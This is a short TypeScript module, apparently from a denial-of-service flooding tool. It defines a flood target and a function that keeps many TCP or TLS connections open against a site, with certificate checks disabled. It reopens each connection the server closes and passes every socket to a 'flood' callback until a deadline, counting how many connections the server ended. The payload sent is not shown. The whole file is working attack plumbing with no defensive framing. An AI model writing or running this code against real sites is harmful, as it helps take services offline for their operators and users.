import { connect as connectTcp, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';

/** How a flood reaches a site. */
export interface FloodTarget {
  readonly host: string;
  readonly port: number;
  /** Without TLS a site speaks HTTP/1.1 only. */
  readonly usesTls: boolean;
  /** `performance.now()` at which the flood ends. */
  readonly until: number;
}

const openSocket = ({ host, port, usesTls }: FloodTarget, protocol: 'h2' | 'http/1.1'): Promise<Socket | null> =>
  new Promise((resolve) => {
    const socket: Socket = usesTls
      ? connectTls({ host, port, ALPNProtocols: [protocol], rejectUnauthorized: false }, () => resolve(socket))
      : connectTcp(port, host, () => resolve(socket));
    socket.on('error', () => resolve(null));
  });

/** Keeps `count` connections open, and opens another one whenever the server ends one. Returns how many it ended. */
export const keepConnections = async (
  target: FloodTarget,
  protocol: 'h2' | 'http/1.1',
  count: number,
  flood: (socket: Socket) => void,
): Promise<number> => {
  let endedByServer = 0;
  const keepConnection = async (): Promise<void> => {
    while (performance.now() < target.until) {
      const socket = await openSocket(target, protocol);
      if (socket) {
        const timer = setTimeout(() => socket.destroy(), Math.max(0, target.until - performance.now()));
        const closed = new Promise<boolean>((resolve) => {
          // A paused socket does not notice the end.
          socket.once('end', () => resolve(true)).once('close', (isBroken) => resolve(isBroken));
        });
        flood(socket);
        if (await closed) endedByServer += 1;
        clearTimeout(timer);
        socket.destroy();
      }
      await delay(20);
    }
  };
  await Promise.all(Array.from({ length: count }, keepConnection));
  return endedByServer;
};
